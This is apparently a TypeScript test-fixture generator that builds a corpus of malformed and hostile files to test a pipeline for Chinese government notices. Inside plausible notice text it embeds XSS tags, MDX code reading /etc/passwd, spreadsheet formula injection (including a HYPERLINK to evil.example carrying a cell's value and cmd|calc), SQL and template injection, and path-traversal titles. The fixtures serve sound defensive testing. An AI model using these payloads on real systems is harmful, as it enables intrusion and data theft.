// The hostile corpus: files the open web could hand the pipeline, each with what the pipeline must
// do with it. Deterministic: the same files, byte for byte, on every run. The small files are
// committed under test/fixtures/hostile/ (`npm run fixtures:hostile` rewrites them); the large ones
// (a 10 MB line, 10,000 agencies) are only ever generated, at test time.
//
// Payloads are wrapped in plausible document structure (a 关于…的通知 title, a 发文字号, numbered
// items, 牵头 statements) so that they reach the later stages instead of being dropped as chrome.
// Every script payload, wherever it could run, sets the global `__pwned` (and opens a dialog where
// it can), so a browser test can tell that none ever ran.
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { encodeLegacy } from './encodings.ts';

export type Expectation =
  /** Read and published under this document id. */
  | { kind: 'publish'; id: string | RegExp }
  /** Refused with a message naming the file (and the line, when `line` is set) and this reason. */
  | { kind: 'refuse'; reason: RegExp; line?: number }
  /** Refused as a second copy of the document another file holds. */
  | { kind: 'duplicate'; of: string; id: string };

export interface HostileFile {
  name: string;
  bytes: Uint8Array;
  expect: Expectation;
  /** What hostile thing the file carries. */
  about: string;
  /** Generated at test time only, never committed. */
  large?: boolean;
}

export const HOSTILE_DIR = 'test/fixtures/hostile';

const utf8 = (text: string) => new Uint8Array(Buffer.from(text, 'utf8'));
function utf16(text: string, endian: 'le' | 'be', bom: boolean): Uint8Array {
  const bytes = Buffer.from(text, 'utf16le');
  if (endian === 'be') bytes.swap16();
  const mark = bom ? (endian === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]) : [];
  return new Uint8Array([...mark, ...bytes]);
}
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

/** A small seeded generator (mulberry32), so "random" bytes are the same on every run. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface NoticeParts {
  /** The subject in 关于{subject}的通知. */
  subject: string;
  /** The serial of 粤府办〔2099〕N号; omitted, the document has no number and its id comes from the title. */
  serial?: number;
  /** Body lines after the covering notice. */
  body: string[];
  /** Lines between the title and the number (rare, but scrapes have them). */
  issuer?: string;
}

/** A plausible Guangdong notice around the payload lines. */
function notice({ subject, serial, body, issuer = '广东省人民政府办公厅' }: NoticeParts): string {
  return [
    `${issuer}关于${subject}的通知`,
    ...(serial === undefined ? [] : [`粤府办〔2099〕${serial}号`]),
    '各地级以上市人民政府，省政府各部门、各直属机构：',
    `现将有关事项通知如下，请认真贯彻执行。`,
    ...body,
    issuer,
    '2099年3月1日',
    '',
  ].join('\n');
}

const ITEMS = [
  '一、总体要求',
  '（一）指导思想。全面深化泛珠三角区域合作，推动区域协调发展。',
  '（二）工作目标。到2020年，区域合作机制更加完善。（省发展改革委牵头，省有关单位按职责分工负责）',
  '二、重点任务',
  '（三）加强基础设施互联互通。加快推进高速公路和铁路建设。（省交通运输厅牵头，省发展改革委等参与）',
];

const id = (serial: number) => `yuefuban-2099-${serial}`;

/** Builds the corpus. `includeLarge` adds the files that are only generated, never committed. */
export function hostileCorpus({ includeLarge = true } = {}): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (file: HostileFile) => files.push(file);
  const random = seededRandom(20_160_818);

  // ---- Files the pipeline cannot read ----------------------------------------------------------
  add({
    name: 'empty.txt',
    bytes: new Uint8Array(),
    expect: { kind: 'refuse', reason: /the file is empty/ },
    about: 'an empty file',
  });
  add({
    name: 'whitespace-only.txt',
    bytes: utf8(' \t\n\r\n\u3000\u00a0  \n\f\n'),
    expect: { kind: 'refuse', reason: /only whitespace/ },
    about: 'only whitespace, ASCII and ideographic',
  });
  add({
    name: 'image.png',
    bytes: new Uint8Array([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00,
      0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00,
      0x00, 0x00, 0x0a, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00, 0x05, 0x00, 0x01,
      0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
    ]),
    expect: { kind: 'refuse', reason: /binary content|not valid UTF-8/ },
    about: 'PNG bytes',
  });
  add({
    name: 'nul-in-text.txt',
    bytes: utf8(notice({ subject: '推进区域合作', serial: 900, body: ['一、加强合作。\u0000\u0000\u0000'] })),
    expect: { kind: 'refuse', reason: /binary content \(control character U\+0000, NUL\)/, line: 5 },
    about: 'NUL bytes inside an otherwise good notice',
  });
  add({
    name: 'random.bin',
    bytes: new Uint8Array(Array.from({ length: 2048 }, () => Math.floor(random() * 256))),
    expect: { kind: 'refuse', reason: /binary content|not valid UTF-8/ },
    about: 'seeded random bytes',
  });
  add({
    name: 'utf16le-bom-invalid.txt',
    bytes: concat(
      utf16('关于推进合作的通知\n一、', 'le', true),
      new Uint8Array([0x00, 0xd8]),
      utf16('合作。\n', 'le', false),
    ),
    expect: { kind: 'refuse', reason: /starts with a utf-16le byte-order mark but is not valid utf-16le/ },
    about: 'a UTF-16 LE BOM, then a lone surrogate',
  });
  add({
    name: 'utf16le-no-bom-lone-surrogate.txt',
    bytes: concat(
      utf16('关于推进合作的通知\n一、', 'le', false),
      new Uint8Array([0x00, 0xdc]),
      utf16('合作。\n', 'le', false),
    ),
    expect: { kind: 'refuse', reason: /not valid UTF-8|binary content/ },
    about: 'UTF-16 LE without a BOM holding a lone low surrogate',
  });
  const [beforeSurrogate, afterSurrogate] = notice({
    subject: '规范文本编码',
    serial: 901,
    body: ['一、加强合作。'],
  }).split('加强');
  add({
    name: 'utf8-lone-surrogate.txt',
    bytes: concat(utf8(beforeSurrogate!), new Uint8Array([0xed, 0xa0, 0x80]), utf8(`加强${afterSurrogate}`)),
    expect: {
      kind: 'refuse',
      reason: /not valid UTF-8, and neither GB18030 nor Big5 reads as plausible Chinese/,
      line: 5,
    },
    about: 'a UTF-8-encoded lone surrogate (ED A0 80), which strict UTF-8 refuses',
  });
  add({
    name: 'mixed-utf8-gbk.txt',
    bytes: concat(
      utf8('广东省人民政府办公厅关于推进混合编码的通知\n粤府办〔2099〕902号\n各地级以上市人民政府：\n'),
      encodeLegacy('一、总体要求\n（一）指导思想。全面深化泛珠三角区域合作，推动区域协调发展。\n', 'gbk'),
    ),
    expect: {
      kind: 'refuse',
      reason: /not valid UTF-8, and neither GB18030 nor Big5 reads as plausible Chinese/,
      line: 4,
    },
    about: 'UTF-8 and GBK in one file: refused at the first line that is not UTF-8',
  });
  add({
    name: 'truncated-mid-character.txt',
    bytes: utf8(notice({ subject: '推进截断处理', serial: 903, body: ITEMS }).slice(0, 120)).subarray(0, -1),
    expect: { kind: 'refuse', reason: /not valid UTF-8/ },
    about: 'a download cut inside a UTF-8 character',
  });
  add({
    name: 'chrome-only.txt',
    bytes: utf8(
      '首页 | 政务公开 | 政策文件\n当前位置：首页 > 政策文件\n扫一扫，分享到微信朋友圈\n相关新闻\n',
    ),
    expect: { kind: 'refuse', reason: /no document body found \(no document title found/ },
    about: 'a page of site chrome with no document in it',
  });
  add({
    name: 'title-only.txt',
    bytes: utf8('关于推进区域合作的通知\n'),
    expect: { kind: 'refuse', reason: /no document body found \(no body text after the title/ },
    about: 'a title and nothing after it',
  });
  add({
    name: 'vertical-tab.txt',
    bytes: utf8(notice({ subject: '推进控制字符处理', serial: 904, body: ['一、加强\u000b合作。'] })),
    expect: { kind: 'refuse', reason: /binary content \(control character U\+000B\)/, line: 5 },
    about: 'a C0 control character (vertical tab) in text',
  });

  // ---- Encodings the pipeline reads ------------------------------------------------------------
  const plain = (subject: string, serial: number) => notice({ subject, serial, body: ITEMS });
  add({
    name: 'gbk.txt',
    bytes: encodeLegacy(plain('推进GBK编码文件', 1), 'gbk'),
    expect: { kind: 'publish', id: id(1) },
    about: 'GBK',
  });
  add({
    name: 'big5.txt',
    bytes: encodeLegacy(
      '廣東省人民政府辦公廳關於推進繁體文件的通知\n粵府辦〔2099〕2號\n各地級以上市人民政府，省政府各部門：\n一、總體要求\n（一）指導思想。全面深化泛珠三角區域合作，推動區域協調發展。\n（二）工作目標。到2020年，區域合作機制更加完善。（省發展改革委牽頭，省有關單位按職責分工負責）\n廣東省人民政府辦公廳\n2099年3月1日\n',
      'big5',
    ),
    expect: { kind: 'publish', id: id(2) },
    about: 'Big5, traditional script',
  });
  add({
    name: 'utf16le-bom.txt',
    bytes: utf16(plain('推进小端字节序文件', 3), 'le', true),
    expect: { kind: 'publish', id: id(3) },
    about: 'UTF-16 LE with BOM',
  });
  add({
    name: 'utf16be-bom.txt',
    bytes: utf16(plain('推进大端字节序文件', 4), 'be', true),
    expect: { kind: 'publish', id: id(4) },
    about: 'UTF-16 BE with BOM',
  });
  add({
    name: 'utf16le-no-bom.txt',
    bytes: utf16(plain('推进无标记小端文件', 5), 'le', false),
    expect: { kind: 'publish', id: id(5) },
    about: 'UTF-16 LE without BOM',
  });
  add({
    name: 'utf16be-no-bom.txt',
    bytes: utf16(plain('推进无标记大端文件', 6), 'be', false),
    expect: { kind: 'publish', id: id(6) },
    about: 'UTF-16 BE without BOM',
  });
  add({
    name: 'utf8-double-bom.txt',
    bytes: concat(
      new Uint8Array([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]),
      utf8(plain('推进重复字节序标记文件', 7)),
    ),
    expect: { kind: 'publish', id: id(7) },
    about: 'UTF-8 with two BOMs: the second is a zero-width no-break space in the text',
  });
  add({
    name: 'crlf.txt',
    bytes: utf8(plain('推进回车换行文件', 8).replace(/\n/gu, '\r\n')),
    expect: { kind: 'publish', id: id(8) },
    about: 'CRLF line endings',
  });
  add({
    name: 'lone-cr.txt',
    bytes: utf8(plain('推进单独回车文件', 9).replace(/\n/gu, '\r')),
    expect: { kind: 'publish', id: id(9) },
    about: 'lone CR line endings',
  });
  add({
    name: 'mixed-line-endings.txt',
    bytes: utf8(
      plain('推进混合换行文件', 10).replace(
        /\n/gu,
        (_, offset: number) => ['\r\n', '\r', '\n', '\u2028'][offset % 4]!,
      ),
    ),
    expect: { kind: 'publish', id: id(10) },
    about: 'CRLF, CR, LF and U+2028 (a Unicode line separator) mixed',
  });
  add({
    name: 'truncated-mid-sentence.txt',
    bytes: utf8(
      plain('推进截断文件', 11)
        .split('\n')
        .slice(0, 7)
        .join('\n')
        .replace(/区域协调发展。$/u, '区域协'),
    ),
    expect: { kind: 'publish', id: id(11) },
    about: 'a document cut off mid-sentence, without a final newline',
  });

  // ---- Duplicates and names --------------------------------------------------------------------
  add({
    name: 'duplicate-a.txt',
    bytes: utf8(plain('推进重复文号文件', 12)),
    expect: { kind: 'publish', id: id(12) },
    about: 'the first of two files with one 发文字号',
  });
  add({
    name: 'duplicate-b.txt',
    bytes: utf8(notice({ subject: '推进重复文号文件（转载）', serial: 12, body: ITEMS.slice(0, 3) })),
    expect: { kind: 'duplicate', of: 'duplicate-a.txt', id: id(12) },
    about: 'a second copy (another repost) with the same 发文字号',
  });
  add({
    name: 'name with spaces.txt',
    bytes: utf8(plain('推进文件名空格处理', 13)),
    expect: { kind: 'publish', id: id(13) },
    about: 'a file name with spaces',
  });
  add({
    name: '泛珠三角合作文件.txt',
    bytes: utf8(plain('推进中文文件名处理', 14)),
    expect: { kind: 'publish', id: id(14) },
    about: 'a Chinese file name',
  });
  add({
    name: '-rf leading-dash.txt',
    bytes: utf8(plain('推进短横线文件名处理', 15)),
    expect: { kind: 'publish', id: id(15) },
    about: 'a file name starting with -',
  });
  add({
    name: '%2E%2E%2F%2E%2E%2Fescape.txt',
    bytes: utf8(plain('推进路径处理', 16)),
    expect: { kind: 'publish', id: id(16) },
    about: 'a file name spelling ../../ (a real ../ cannot be a file name)',
  });
  add({
    name: 'path-title.txt',
    bytes: utf8(
      notice({ subject: '../../../etc/passwd 与 /tmp/x 及 ..\\..\\windows 路径', body: ITEMS }).replace(
        /^.*$/mu,
        '../../../etc/passwd关于推进..\\..\\路径/处理的通知',
      ),
    ),
    expect: { kind: 'publish', id: /^etc-passwd-guanyu-/u },
    about: 'a title without 发文字号 crafted so its id would leave the folder',
  });
  add({
    name: 'rare-number-prefix.txt',
    bytes: utf8(
      notice({ subject: '推进生僻字文号处理', body: ITEMS }).replace(
        '各地级以上市',
        '𠀀𠀁〔2099〕17号\n各地级以上市',
      ),
    ),
    expect: { kind: 'publish', id: 'u20000u20001-2099-17' },
    about: 'a 发文字号 whose issuer code has no pinyin (CJK Extension B)',
  });

  // ---- Payloads for browsers, MDX and spreadsheets ---------------------------------------------
  add({
    name: 'html-script.txt',
    bytes: utf8(
      notice({
        subject: '防范网页脚本注入',
        serial: 20,
        body: [
          '一、<script>window.__pwned = 1; alert(1)</script>加强网络安全合作。',
          '（一）<img src=x onerror="window.__pwned=1">推进信息共享。（省公安厅牵头）',
          '（二）访问<a href="javascript:window.__pwned=1">javascript:alert(window.__pwned=1)</a>链接。',
          '<iframe src="javascript:parent.__pwned=1"></iframe><svg onload="alert(window.__pwned=1)">',
          '&lt;script&gt;alert(window.__pwned=1)&lt;/script&gt; &#x3C;b&#x3E; &amp;',
          '</textarea></title><style>*{display:none}</style>',
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(20) },
    about: '<script>, <img onerror>, javascript: links, HTML entities',
  });
  add({
    name: 'mdx-payloads.txt',
    bytes: utf8(
      notice({
        subject: '规范{process.exit(1)}文本',
        serial: 21,
        body: [
          "import fs from 'node:fs'",
          'export const x = fs.readFileSync("/etc/passwd", "utf8")',
          '一、{process.exit(1)}推进合作。（<Component />牵头）',
          '（一）{/* 注释 */}加强协调。{globalThis.__pwned = 1}',
          '<Component prop={process.env} />',
          '（二）{`${process.exit(1)}`}深化合作。',
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(21) },
    about: 'MDX/JSX: import, export, expressions, components, comments',
  });
  add({
    name: 'markdown.txt',
    bytes: utf8(
      notice({
        subject: '规范[链接]文本',
        serial: 22,
        body: [
          '# 一级标题',
          '一、[点击这里](javascript:alert(window.__pwned=1))加强合作。',
          '（一）![图片](http://evil.example/x.png "title")推进共享。',
          '（二）<http://evil.example> 与 **粗体** 与 `代码` 与 ---',
          '| 表头 | 表头 |',
          '[ref]: javascript:alert(window.__pwned=1)',
          '<details open ontoggle="alert(window.__pwned=1)">',
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(22) },
    about: 'Markdown that would become links, images or HTML',
  });
  add({
    name: 'formulas.txt',
    bytes: utf8(
      notice({
        subject: '防范公式注入',
        serial: 23,
        body: [
          '=HYPERLINK("http://evil.example/?x="&A1,"点击")推进合作。（省发展改革委牵头）',
          "+cmd|' /C calc'!A0加强协作。（省商务厅牵头）",
          '-1+1深化交流。（=1+1牵头，@SUM(1+1)等参与）',
          "@SUM(1+1)*cmd|' /C calc'!A0完善机制。（省科技厅牵头）",
          '\t=1+1推进共享。（省教育厅牵头）',
          '一、=HYPERLINK("http://evil.example")',
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(23) },
    about: '=HYPERLINK, +cmd, -1+1, @SUM at the start of task texts, agency names and provisions',
  });
  add({
    name: 'formula-title.txt',
    bytes: utf8(notice({ subject: '推进合作', body: ITEMS }).replace(/^/u, '=1+1')),
    expect: { kind: 'publish', id: /^1-1-guangdong-/u },
    about: 'a title starting with = (the first cell of its row in documents.csv)',
  });

  // ---- Invisible and strange characters --------------------------------------------------------
  add({
    name: 'zero-width.txt',
    bytes: utf8(
      notice({
        subject: '推进\u200b零宽\u200c字符\u200d处理',
        serial: 30,
        body: ['一、加强\u2060合作。（省发展\u200b改革委牵头）', '（一）\ufeff推进共享。', ...ITEMS.slice(3)],
      }),
    ),
    expect: { kind: 'publish', id: id(30) },
    about: 'zero-width space, joiners, word joiner, a BOM inside the text',
  });
  add({
    name: 'bidi-controls.txt',
    bytes: utf8(
      notice({
        subject: '推进\u202e知通双向\u202c控制符处理',
        serial: 31,
        body: [
          '一、加强\u202a合作\u202c与\u202b交流\u202c。\u200e\u200f\u061c',
          '（一）\u2066推进\u2069\u2067共享\u2069\u2068互通\u2069。（省\u202e委革改展发\u202c牵头）',
          ...ITEMS.slice(3),
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(31) },
    about: 'U+202E and every other bidi control',
  });
  add({
    name: 'noncharacters.txt',
    bytes: utf8(
      notice({
        subject: '推进非字符处理',
        serial: 32,
        body: [
          '一、加强\ufffe合作\uffff。',
          '（一）推进\ufdd0共享\u{1fffe}。\u0085\u007f\u009b',
          ...ITEMS.slice(3),
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(32) },
    about: 'noncharacters U+FFFE, U+FFFF, U+FDD0, U+1FFFE and C1 controls in valid UTF-8',
  });
  add({
    name: 'private-use-and-replacement.txt',
    bytes: utf8(
      notice({
        subject: '推进\ue000私用区\ufffd字符处理',
        serial: 33,
        body: [
          '一、加强\ue001合作?交流。',
          '（一）推进\ufffd\ufffd共享。',
          '\u{f0000}\u{10fffd}',
          ...ITEMS.slice(3),
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(33) },
    about: 'private-use characters, U+FFFD and ? between Chinese characters',
  });
  add({
    name: 'json-breakers.txt',
    bytes: utf8(
      notice({
        subject: '规范"引号"与\\反斜杠',
        serial: 34,
        body: [
          '一、"}]}, {"id": "x"推进合作。',
          '（一）\\u0000\\n\\"推进共享。',
          "（二）'; DROP TABLE documents; --",
          '（三）${7*7}{{7*7}}<%= 7*7 %>',
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(34) },
    about: 'quotes, backslashes and escape sequences, SQL and template injections',
  });
  add({
    name: 'pinyin-and-gbk-lookalikes.txt',
    bytes: utf8(
      notice({
        subject: '推进区(qū)域合作',
        serial: 35,
        body: [
          '一、加强區(qū)<script>域合作。',
          '（一）推进?;浉郯拇鬄硡^合作。',
          '（二）(qū)(qū)(qū)区(qū)(qū)。',
          '（三）?(qū)?<b>?',
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(35) },
    about: 'pinyin annotations and GBK-shift runs next to markup',
  });
  add({
    name: 'deep-nesting.txt',
    bytes: utf8(
      notice({
        subject: '推进多级编号处理',
        serial: 36,
        body: [
          '第一编 总则',
          '第一章 一般规定',
          '第一节 基本原则',
          '第一条 合作原则',
          '一、总体要求',
          '（一）指导思想',
          '1.基本原则',
          '（1）平等协商',
          '①互利共赢。（省发展改革委牵头）',
          ...Array.from({ length: 60 }, (_, i) => `${'（'.repeat(i)}第${i + 1}层${'）'.repeat(i)}`),
          `（${'（'.repeat(500)}省发展改革委牵头${'）'.repeat(500)}）`,
          `《${'《'.repeat(200)}嵌套书名${'》'.repeat(200)}》`,
          ...Array.from(
            { length: 20 },
            (_, i) => `${i + 1}.（${i + 1}）第${i + 1}条 ${'一二三四五六七八九十'[i % 10]}、⑳⒇⒛`,
          ),
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(36) },
    about: 'every numbering level nested, then 500-deep brackets and 200-deep 《》',
  });
  add({
    name: 'numbers-overflow.txt',
    bytes: utf8(
      notice({
        subject: '推进大数字处理',
        serial: 37,
        body: [
          '第九千九百九十九条 大数字',
          '第99999999999999999999条 超长数字',
          '九十九万、超大编号',
          '（一百零一）编号',
          '到9999年12月31日前完成。2099年13月底前完成。每年2月30日前报送。到“十九五”期末完成。',
          '粤府〔0000〕0号 粤府〔9999〕99999号 〔2016〕18号',
        ],
      }),
    ),
    expect: { kind: 'publish', id: id(37) },
    about: 'numbers, dates and 发文字号 out of any sensible range',
  });

  // ---- Large files, generated only --------------------------------------------------------------
  if (includeLarge) {
    const sentence = '全面深化泛珠三角区域合作，推动区域协调发展。';
    add({
      name: 'giant-line.txt',
      bytes: utf8(sentence.repeat(Math.ceil((10 * 1024 * 1024) / Buffer.byteLength(sentence)))),
      expect: { kind: 'refuse', reason: /no document body found \(no document title found/ },
      about: 'a 10 MB single line with no title',
      large: true,
    });
    add({
      name: 'giant-paragraph.txt',
      bytes: utf8(
        notice({ subject: '推进超长段落处理', serial: 40, body: ['一、总体要求', sentence.repeat(40_000)] }),
      ),
      expect: { kind: 'publish', id: id(40) },
      about: 'a notice with a 1.3 MB paragraph',
      large: true,
    });
    add({
      name: 'agencies-10000.txt',
      bytes: utf8(notice({ subject: '推进万家单位协作', serial: 41, body: agencyList(10_000) })),
      expect: { kind: 'publish', id: id(41) },
      about: 'a responsibility statement and a 参与单位 block naming 10,000 agencies',
      large: true,
    });
    add({
      name: 'mostly-private-use.txt',
      bytes: utf8(
        notice({ subject: '推进私用区字符处理', serial: 43, body: ['一、' + '\ue000中'.repeat(200_000)] }),
      ),
      expect: { kind: 'refuse', reason: /the text needs more than 100000 logged changes/ },
      about: '200,000 private-use characters, each a logged change: too many for a document',
      large: true,
    });
    add({
      name: 'many-lines.txt',
      bytes: utf8(
        notice({
          subject: '推进海量条目处理',
          serial: 42,
          body: Array.from(
            { length: 20_000 },
            (_, i) => `${i + 1}.推进第${i + 1}项合作。（省发展改革委牵头）`,
          ),
        }),
      ),
      expect: { kind: 'publish', id: id(42) },
      about: '20,000 numbered items, each a task',
      large: true,
    });
  }
  return files;
}

/** 10,000 distinct plausible names: a place, a field and a kind of body. */
function agencyList(count: number): string[] {
  const places = ['广州', '深圳', '珠海', '汕头', '佛山', '韶关', '湛江', '肇庆', '江门', '茂名'];
  const fields = [
    ...new Set(
      '农林牧渔工商交通水利能源科教文卫体旅金融税务海关气象地质测绘环保港航铁路民邮政通信电力燃气供',
    ),
  ];
  const kinds = ['局', '委', '办', '中心', '协会', '公司', '集团', '研究院', '管理处', '服务站'];
  const names: string[] = [];
  for (let i = 0; names.length < count; i++) {
    const field = fields[i % fields.length]! + fields[Math.floor(i / fields.length) % fields.length]!;
    names.push(
      `${places[Math.floor(i / 400) % places.length]}${field}${kinds[Math.floor(i / 4000) % kinds.length]}${Math.floor(i / 40_000) || ''}`,
    );
  }
  return [
    '一、推进全面协作。',
    `（二）加强联动。（${names.slice(0, count / 2).join('、')}等按职责分工负责）`,
    '（三）深化合作。',
    '牵头单位：省发展改革委',
    `参与单位：${names.slice(count / 2).join('、')}`,
  ];
}

/** Writes the corpus into `dir`, replacing what was there. */
export function writeHostileCorpus(dir: string, files: readonly HostileFile[]): void {
  mkdirSync(dir, { recursive: true });
  for (const name of readdirSync(dir)) if (name !== 'README.md') rmSync(join(dir, name), { recursive: true });
  for (const file of files) writeFileSync(join(dir, file.name), file.bytes);
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const files = hostileCorpus({ includeLarge: false });
  writeHostileCorpus(HOSTILE_DIR, files);
  console.log(`${files.length} files written to ${HOSTILE_DIR}`);
}
